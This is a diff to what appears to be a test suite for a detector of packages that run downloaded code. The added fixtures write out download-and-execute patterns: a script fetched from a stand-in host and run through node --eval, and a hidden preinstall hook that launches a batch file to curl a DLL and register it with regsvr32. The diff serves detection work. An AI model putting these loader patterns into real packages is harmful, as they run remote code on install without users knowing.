@@ -82,6 +82,22 @@ examine(runsDownloadedCode, {
       },
       weight: 'proof',
     },
+    {
+      when: 'the answer is collected by chained listeners and handed to node',
+      files: {
+        'index.js': `const { execFile } = require('child_process'); require('https').get('https://stage.invalid/', r => { r.setEncoding('utf8'); let s = ''; r.on('data', p => { s += p; }).on('end', () => execFile(process.execPath, ['--eval', s])); })`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'a batch file of the package downloads and registers a library, unseen',
+      files: {
+        'package.json': { name: 'specimen', scripts: { preinstall: 'node c.js' } },
+        'c.js': `require('child_process').spawn('cmd.exe', ['/c', require('path').join(__dirname, 'c.bat')], { windowsHide: true })`,
+        'c.bat': '@echo off\r\ncurl http://files.invalid/s.dll -o s.dll\r\nregsvr32.exe -s s.dll\r\n',
+      },
+      weight: 'proof',
+    },
   ],
   silent: [
     {
@@ -105,6 +121,13 @@ examine(runsDownloadedCode, {
     {
       when: 'the server is this machine',
       files: { 'index.js': `fetch('http://127.0.0.1:8080/x').then(r => r.text()).then(t => eval(t))` },
+    },
+    {
+      when: 'a script unpacks what it has downloaded',
+      files: {
+        'package.json': { name: 'specimen', scripts: { postinstall: 'sh i.sh' } },
+        'i.sh': 'curl -L -o lib.tgz https://files.invalid/lib.tgz\nsha256sum lib.tgz\ntar xzf lib.tgz\nrm lib.tgz\n',
+      },
     },
   ],
 });
